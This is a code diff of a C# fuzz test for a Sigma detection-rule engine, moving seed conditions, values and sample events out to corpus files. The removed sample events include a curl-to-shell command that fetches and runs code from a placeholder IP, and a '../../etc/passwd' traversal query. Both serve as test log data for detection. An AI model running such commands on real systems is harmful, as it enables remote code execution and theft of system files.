@@ -14,17 +14,13 @@ public sealed class SigmaFuzz
 {
     private static readonly RuleLoadOptions Options = new() { AnyLogSource = true };
 
-    private static readonly string[] Events =
-    [
-        "{\"f\":\"x\",\"g\":\"a y b\",\"h\":7}", "{\"f\":\"C:\\\\Temp\\\\*\",\"g\":null,\"list\":[\"x\",\"yy\",3]}", "{\"h\":{\"i\":\"::1\"},\"f\":\"\",\"message\":\"x y\"}", "{}",
-        "{\"process.command_line\":\"/bin/sh -c 'curl http://192.0.2.1/a|sh'\",\"process.executable\":\"/bin/sh\",\"user.name\":\"root\",\"event.outcome\":\"failure\",\"source.ip\":\"10.0.0.9\"}",
-        "{\"url.path\":\"/index.php\",\"url.query\":\"a=../../etc/passwd\",\"http.request.method\":\"GET\",\"http.response.status_code\":200,\"message\":\"GET /index.php\"}",
-    ];
+    /// <summary>Events that rules are judged on.</summary>
+    private static readonly string[] Events = [.. Fuzzing.CorpusLines("sigma-events").Select(Encoding.UTF8.GetString)];
 
     [Fact]
     public void Any_condition_is_refused_or_means_to_the_engine_what_it_means_to_the_oracle()
     {
-        var seeds = Fuzzing.Texts("a", "a and b", "not a or b", "(a or b) and not c", "1 of s_*", "all of s_*", "1 of them", "all of them", "any of them", "a and not 1 of s_* or (b and not (c or all of s*))", "NOT a AND b");
+        var seeds = Fuzzing.CorpusLines("sigma-conditions");
         var agreed = 0L;
         Fuzzing.Run(seeds, 1_500, input => agreed += Agree(
             $"title: t\nid: '1'\nlogsource: {{ product: p }}\ndetection:\n  a: {{ f: x }}\n  b: {{ g|contains: y }}\n  c: {{ h|gt: 3 }}\n  s_1: {{ f: '' }}\n  s_2: {{ list: x }}\n  condition: {Quote(Encoding.UTF8.GetString(input))}\n", Events));
@@ -35,7 +31,7 @@ public sealed class SigmaFuzz
     public void Any_value_is_refused_or_found_by_the_engine_where_the_oracle_finds_it()
     {
         string[] modifiers = ["", "|contains", "|startswith", "|endswith", "|windash|contains", "|re", "|cased", "|base64offset|contains", "|wide|base64", "|cidr", "|contains|all", "|neq"];
-        var seeds = Fuzzing.Texts("C:\\Temp\\*", "\\\\host\\share\\?", "a\\*b*c?d", "\\\\\\*", "x\\", "* -enc *", "–x /y", "10.0.0.0/8", "^a.*b$", "(a|b)+\\d{2,3}", "İıſK", "*", "?", "");
+        var seeds = Fuzzing.CorpusLines("sigma-values");
         var agreed = 0L;
         Fuzzing.Run(seeds, 700, input =>
         {
@@ -68,7 +64,7 @@ public sealed class SigmaFuzz
         var (reading, reader, judge) = (new JsonDetector(set), new JsonEventReader(set), new SigmaDetector(set));
         var (one, other, found, foundAfter) = (new EventBatch(), new EventBatch(), new FindingList(), new FindingList());
         var matches = new MatchList();
-        IReadOnlyList<byte[]> seeds = Fuzzing.Texts([.. Events, "{\"a\":[[[{\"b\":1e5}]]],\"f\":\"\\u0078\",\"g\":\"\\ud83d\\ude00y\"}", "{\"h\":-0.0,\"f\":true,\"f\":\"x\",\"\":\"x\"}", " {\"i\" : null , \"list\":[ ] } "]);
+        IReadOnlyList<byte[]> seeds = [.. Fuzzing.CorpusLines("sigma-events"), .. Fuzzing.CorpusLines("sigma-odd-events")];
         Fuzzing.Run(seeds, 30_000, input =>
         {
             one.Clear();
